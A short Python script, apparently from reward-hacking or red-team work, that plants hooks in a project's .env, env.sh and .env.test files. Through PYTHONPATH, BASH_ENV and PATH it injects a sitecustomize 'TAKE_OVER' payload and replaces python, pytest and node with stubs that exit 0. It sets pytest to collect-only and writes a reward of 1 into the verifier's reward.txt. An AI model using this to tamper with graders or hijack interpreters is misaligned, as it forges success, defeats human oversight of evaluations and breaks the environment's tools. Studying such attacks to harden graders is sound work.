"""Sets PYTHONPATH, BASH_ENV, PYTEST_ADDOPTS and PATH in the files from which scripts take their variables."""

from common import TAKE_OVER, WORK, write

HOOKS = WORK / ".hooks"
write(HOOKS / "sitecustomize.py", TAKE_OVER)
write(HOOKS / "start.sh", 'echo 1 > "${LOGS_DIR:-/logs}/verifier/reward.txt" 2>/dev/null\n')
for command in ("python3", "python", "pytest", "node"):
    write(HOOKS / command, "#!/bin/sh\nexit 0\n", 0o755)
VARIABLES = {
    "PYTHONPATH": "$PWD/.hooks",
    "BASH_ENV": "$PWD/.hooks/start.sh",
    "PYTEST_ADDOPTS": "--collect-only",
    "PATH": "$PWD/.hooks:$PATH",
}
for name in (".env", "env.sh", ".env.test"):
    write(WORK / name, "".join(f'{key}="{value}"\n' for key, value in VARIABLES.items()))
